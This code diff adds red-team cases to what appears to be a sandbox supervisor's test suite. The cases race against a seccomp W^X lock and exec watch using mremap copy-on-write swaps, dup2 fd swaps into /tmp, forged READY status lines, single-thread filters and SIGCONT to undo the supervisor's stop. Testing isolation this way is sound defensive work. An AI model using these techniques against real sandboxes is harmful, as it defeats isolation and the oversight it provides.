@@ -450,6 +450,11 @@ def own_listener(ctx: WorkerContext) -> dict:
         res[label] = "ok" if rc >= 0 else errno.errorcode.get(ctypes.get_errno())
         if rc >= 0 and flags:
             os.close(rc)
+    import json
+
+    # After READY the W^X filter kills the mprotect below outright (KILL outranks any
+    # USER_NOTIF, ours or the supervisor's): say what the listener attempts got first.
+    print("ATTACK-STEP own_listener " + json.dumps(res), flush=True)
     res.update(_anon_rx())
     return res
 
@@ -609,6 +614,268 @@ def patch_library(ctx: WorkerContext) -> dict:
     res.update(denied=rc != 0, errno=errno.errorcode.get(ctypes.get_errno()) if rc else None)
     m.close()
     return res
+
+# -- issue 21: races against the exec watch, and the W^X lock at READY --------------------
+# The exec watch judges a request, then lets the kernel make the call (CONTINUE). A
+# second thread that changes the memory or the fd between the two would make the
+# kernel do what was never judged. Each race below is tried `tries` times, thread 2
+# firing at spread delays after thread 1 enters its syscall (ctypes drops the GIL
+# there, which is what wakes thread 2); `bench/wx_race.py` runs them in a sandbox
+# under an ExecWatch that refuses without killing, and counts wins.
+
+_MREMAP_MAYMOVE, _MREMAP_FIXED = 1, 2
+_MAP_PRIVATE_ = 0x02
+_PAGE = mmap.PAGESIZE
+
+
+def _lib_path() -> str:
+    import glob
+
+    return os.path.realpath((glob.glob("/usr/lib/x86_64-linux-gnu/libz.so.1*")
+                             + glob.glob("/usr/lib/*/libz.so.1*") + glob.glob("/lib/*/libz.so.1*"))[0])
+
+
+def _raw() -> ctypes.CDLL:
+    lib = ctypes.CDLL(None, use_errno=True)
+    lib.mmap.restype = ctypes.c_void_p
+    lib.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int,
+                         ctypes.c_long)
+    lib.mremap.restype = ctypes.c_void_p
+    lib.mremap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_int,
+                           ctypes.c_void_p)
+    lib.munmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t)
+    lib.mprotect.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
+    return lib
+
+
+_FAILED = ctypes.c_void_p(-1).value
+
+
+class _Racer:
+    """Thread 2: armed with an action and a delay, it runs the action that long after
+    thread 1 lets go of the GIL (entering its syscall through ctypes)."""
+
+    def __init__(self) -> None:
+        import threading
+
+        self.action: Callable[[], object] | None = None
+        self.delay_ns = 0
+        self.done = threading.Event()
+        self.go = threading.Event()
+        threading.Thread(target=self._loop, daemon=True).start()
+
+    def _loop(self) -> None:
+        while True:
+            self.go.wait()
+            self.go.clear()
+            end = time.perf_counter_ns() + self.delay_ns
+            while time.perf_counter_ns() < end:
+                pass
+            assert self.action is not None
+            self.action()
+            self.done.set()
+
+    def arm(self, action: Callable[[], object], delay_us: int) -> None:
+        self.action, self.delay_ns = action, delay_us * 1000
+        self.done.clear()
+        self.go.set()
+
+
+def _perms_at(addr: int) -> tuple[str, str]:
+    with open("/proc/self/maps") as f:
+        for ln in f:
+            lo, _, rest = ln.partition("-")
+            hi = rest.split(None, 1)[0]
+            if int(lo, 16) <= addr < int(hi, 16):
+                v = ln.split(None, 5)
+                return v[1], (v[5].strip() if len(v) > 5 else "")
+    return "", ""
+
+
+def _delay(i: int, spread_us: int) -> int:
+    return (i * 7919) % max(spread_us, 1)
+
+
+def cow_race_tries(tries: int, spread_us: int = 600, pads: int = 300) -> dict:
+    """Issue 21 (1): mprotect(R|X) of a clean read-only page of a library while thread 2
+    mremaps a patched copy-on-write copy of that page onto it. A win: the page is then
+    executable and holds our byte. Makes `pads` read-only mappings of the library first
+    (a longer judgement, a wider window)."""
+    libc, path = _raw(), _lib_path()
+    fd = os.open(path, os.O_RDONLY)
+    kept = [libc.mmap(None, _PAGE, mmap.PROT_READ, _MAP_PRIVATE_, fd, 0) for _ in range(pads)]
+    racer = _Racer()
+    wins = refused = 0
+    for i in range(tries):
+        copy = libc.mmap(None, _PAGE, PROT_RW, _MAP_PRIVATE_, fd, 0)
+        ctypes.memset(copy, 0xC3, 1)                        # copy on write: no longer the file's
+        libc.mprotect(copy, _PAGE, mmap.PROT_READ)          # not watched: no PROT_EXEC
+        tgt = libc.mmap(None, _PAGE, mmap.PROT_READ, _MAP_PRIVATE_, fd, 0)
+        racer.arm(lambda c=copy, t=tgt: libc.mremap(c, _PAGE, _PAGE, _MREMAP_MAYMOVE | _MREMAP_FIXED,
+                                                    t), _delay(i, spread_us))
+        rc = libc.mprotect(tgt, _PAGE, PROT_RX)
+        racer.done.wait()
+        if rc != 0:
+            refused += 1
+        elif _perms_at(tgt)[0].startswith("r-x") and ctypes.c_ubyte.from_address(tgt).value == 0xC3:
+            wins += 1
+        libc.munmap(tgt, _PAGE)
+        libc.munmap(copy, _PAGE)
+    for a in kept:
+        libc.munmap(a, _PAGE)
+    os.close(fd)
+    return {"tries": tries, "wins": wins, "refused": refused}
+
+
+def fd_swap_tries(tries: int, spread_us: int = 600) -> dict:
+    """Issue 21 (2): mmap(R|X) of a library's fd while thread 2 dup2()s a copy in the
+    writable /tmp onto that fd number. A win: the new mapping is the /tmp file."""
+    libc, path = _raw(), _lib_path()
+    with open(path, "rb") as f, open("/tmp/libswap.so", "wb") as g:
+        g.write(f.read())
+    lib, evil = os.open(path, os.O_RDONLY), os.open("/tmp/libswap.so", os.O_RDONLY)
+    num = os.dup(lib)
+    racer = _Racer()
+    wins = refused = 0
+    for i in range(tries):
+        os.dup2(lib, num)
+        racer.arm(lambda: libc.dup2(evil, num), _delay(i, spread_us))
+        addr = libc.mmap(None, _PAGE, PROT_RX, _MAP_PRIVATE_, num, 0)
+        racer.done.wait()
+        if addr in (None, _FAILED):
+            refused += 1
+            continue
+        if "/tmp/" in _perms_at(addr)[1]:
+            wins += 1
+        libc.munmap(addr, _PAGE)
+    for x in (lib, evil, num):
+        os.close(x)
+    return {"tries": tries, "wins": wins, "refused": refused}
+
+
+def cow_mremap_race(ctx: WorkerContext) -> dict:
+    """Before READY (issue 21, 1): the copy-on-write mremap race, 30 tries, then the same
+    moves one after the other (mremap, then mprotect), which is always refused. Before
+    the fix a try could win silently; now the worker is stopped while judged and the
+    result checked, so a win is impossible and the first refusal ends the worker."""
+    res = cow_race_tries(30)
+    libc, fd = _raw(), os.open(_lib_path(), os.O_RDONLY)
+    copy = libc.mmap(None, _PAGE, PROT_RW, _MAP_PRIVATE_, fd, 0)
+    ctypes.memset(copy, 0xC3, 1)
+    libc.mprotect(copy, _PAGE, mmap.PROT_READ)
+    tgt = libc.mmap(None, _PAGE, mmap.PROT_READ, _MAP_PRIVATE_, fd, 0)
+    libc.mremap(copy, _PAGE, _PAGE, _MREMAP_MAYMOVE | _MREMAP_FIXED, tgt)
+    res["last"] = "ok" if libc.mprotect(tgt, _PAGE, PROT_RX) == 0 else \
+        errno.errorcode.get(ctypes.get_errno())
+    return {"denied": res["wins"] == 0 and res["last"] != "ok", **res}
+
+
+def fd_swap_race(ctx: WorkerContext) -> dict:
+    """Before READY (issue 21, 2): the dup2 fd-swap race, 30 tries, then the swap made
+    first (always refused: /tmp is writable)."""
+    res = fd_swap_tries(30)
+    libc = _raw()
+    fd = os.open("/tmp/libswap.so", os.O_RDONLY)
+    addr = libc.mmap(None, _PAGE, PROT_RX, _MAP_PRIVATE_, fd, 0)
+    res["last"] = "ok" if addr not in (None, _FAILED) else errno.errorcode.get(ctypes.get_errno())
+    return {"denied": res["wins"] == 0 and res["last"] != "ok", **res}
+
+
+def _status_fd_write(text: str) -> None:
+    os.write(int(os.environ[ENV_STATUS_FD]), text.encode() + b"\n")
+
+
+def fake_wx_lock(ctx: WorkerContext) -> dict:
+    """Red team (own work): skip ctx.ready(), install a harmless filter so that
+    Seccomp_filters grows as the lock would make it, and say READY with the lock's own
+    words. The supervisor reads the filters back: refused (wx_lock) before the
+    anonymous code 2 s later."""
+    import struct
+
+    prog = [(0x06, 0, 0, 0x7FFF0000)]                           # ret ALLOW
+    raw = b"".join(struct.pack("=HBBI", *ins) for ins in prog)
+    buf = ctypes.create_string_buffer(raw, len(raw))
+
+    class _Fprog(ctypes.Structure):
+        _fields_ = [("len", ctypes.c_ushort), ("filter", ctypes.c_void_p)]
+
+    fprog = _Fprog(len(prog), ctypes.cast(buf, ctypes.c_void_p))
+    rc = _libc.syscall(ctypes.c_long(317), ctypes.c_long(1), ctypes.c_long(1),   # TSYNC
+                       ctypes.byref(fprog))
+    _status_fd_write("READY=1 STATUS=[wx mdwe=1 seccomp=1] forged")
+    time.sleep(2.0)
+    return {"filter": rc, **_anon_rx()}
+
+
+def wx_one_thread(ctx: WorkerContext) -> dict:
+    """Red team (own work): the real W^X program, but on the main thread only (no
+    TSYNC), with a second thread left free; READY by hand. Every thread is checked:
+    refused (wx_lock) naming the thread."""
+    import threading
+
+    from supervisor.sandbox import wx
+
+    free = threading.Event()
+    t = threading.Thread(target=free.wait, daemon=True)
+    t.start()
+    flt = wx.build_filter()
+    import pyseccomp
+
+    flt.set_attr(pyseccomp.Attr.CTL_TSYNC, 0)
+    flt.load()
+    _status_fd_write("READY=1 STATUS=[wx mdwe=1 seccomp=1] one thread")
+    time.sleep(2.0)
+    return {"denied": None, "error": "not refused within 2 s"}
+
+
+def sigcont_race(ctx: WorkerContext) -> dict:
+    """Red team (own work), before READY: thread 2 wakes the stopped worker (SIGCONT)
+    and stops it again (SIGSTOP to itself) in a loop, trying to run while a request of
+    thread 1 is judged, and mremaps the patched copy when it can. The supervisor
+    counts a stop only if two passes see the same stopped threads that did not run:
+    no win; the worker is refused (too slow to judge, or the patched page seen)."""
+    import signal
+    import threading
+
+    libc, fd = _raw(), os.open(_lib_path(), os.O_RDONLY)
+    stop = threading.Event()
+    main, pid = threading.get_native_id(), os.getpid()
+    wins = tries = bounced = 0
+    pair: list[int] = []
+
+    def in_mprotect() -> bool:       # thread 1 waits in the kernel for the judgement
+        try:
+            with open(f"/proc/self/task/{main}/syscall") as f:
+                return f.read().split(None, 1)[0] == "10"
+        except OSError:
+            return False
+
+    def bounce() -> None:
+        nonlocal bounced
+        while not stop.is_set():
+            if not (pair and in_mprotect()):
+                time.sleep(0)
+                continue
+            os.kill(pid, signal.SIGCONT)          # undo the supervisor's stop
+            libc.mremap(pair[0], _PAGE, _PAGE, _MREMAP_MAYMOVE | _MREMAP_FIXED, pair[1])
+            pair.clear()
+            bounced += 1
+            if in_mprotect():                     # look stopped again (never strand thread 1)
+                os.kill(pid, signal.SIGSTOP)
+    threading.Thread(target=bounce, daemon=True).start()
+    for tries in range(1, 31):
+        c = libc.mmap(None, _PAGE, PROT_RW, _MAP_PRIVATE_, fd, 0)
+        ctypes.memset(c, 0xC3, 1)
+        libc.mprotect(c, _PAGE, mmap.PROT_READ)
+        t = libc.mmap(None, _PAGE, mmap.PROT_READ, _MAP_PRIVATE_, fd, 0)
+        pair[:] = [c, t]
+        if libc.mprotect(t, _PAGE, PROT_RX) == 0 and _perms_at(t)[0].startswith("r-x") \
+                and ctypes.c_ubyte.from_address(t).value == 0xC3:
+            wins += 1
+        pair.clear()
+    stop.set()
+    return {"denied": wins == 0, "tries": tries, "wins": wins, "bounced": bounced}
+
 
 def raise_cpu_weight(ctx: WorkerContext) -> dict:
     """Research taking CPU from control: raise its own cgroup's weight (v2 cpu.weight,
@@ -963,6 +1230,7 @@ ATTACKS: dict[str, Callable[[WorkerContext], dict]] = {
         shared_description, patch_library,
         raise_cpu_weight, raise_priority, realtime_runaway,
         realtime_pi_boost, realtime_hop, realtime_sched_misc, realtime_pid_wrap,
+        cow_mremap_race, fd_swap_race, fake_wx_lock, wx_one_thread, sigcont_race,
     )
 }
 
